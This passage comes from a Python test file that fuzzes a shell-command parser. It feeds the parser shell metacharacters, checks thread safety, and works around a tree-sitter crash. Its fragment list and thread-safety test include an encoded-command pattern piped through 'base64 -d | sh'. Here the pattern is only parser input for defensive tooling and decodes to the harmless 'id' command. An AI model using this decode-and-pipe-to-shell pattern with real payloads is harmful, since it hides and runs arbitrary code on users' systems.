        "||",
        ";;",
        "bash -c ",
        "eval ",
        "sudo ",
        "xargs ",
        "find . -exec ",
        "| base64 -d | sh",
        "'EOF'",
        "<>",
        "2>&1",
        "$'\\x41'",
        "{a,b}",
        "X=",
        "$X",
        "case ",
        "esac",
        "for ",
        "do ",
        "done",
        "if ",
        "then ",
        "fi",
        "f() ",
        "function ",
    ]
)


@settings(deadline=None, max_examples=300, database=None)
@given(st.text())
def test_never_raises_on_any_text(text: str) -> None:
    parsed = parse(text)
    assert isinstance(parsed, ParsedCommand)
    assert parsed.error is None or not parsed.error.startswith("internal error")


@settings(deadline=None, max_examples=300, database=None)
@given(st.lists(_META, max_size=30).map("".join))
def test_never_raises_on_shell_soup(text: str) -> None:
    parsed = parse(text)
    assert isinstance(parsed, ParsedCommand)
    assert parsed.error is None or not parsed.error.startswith("internal error")


def test_thread_safety() -> None:
    cmds = ["ls | grep x", f"echo {b64('id')} | base64 -d | sh", "bash -c 'a; b'"] * 50
    expected = [parse(c) for c in cmds]
    results: list[list[ParsedCommand]] = [[] for _ in range(4)]

    def work(slot: list[ParsedCommand]) -> None:
        slot.extend(parse(c) for c in cmds)

    threads = [threading.Thread(target=work, args=(r,)) for r in results]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert all(r == expected for r in results)


def test_characters_that_crash_tree_sitter_are_kept_from_it() -> None:
    # tree-sitter-bash 0.25 intermittently segfaults on "{" followed by U+E139B
    for _ in range(2000):
        parsed = parse("echo {\U000e139b} é")
    assert parsed.invocations[0].argv == ("echo", "{\U000e139b}", "é")
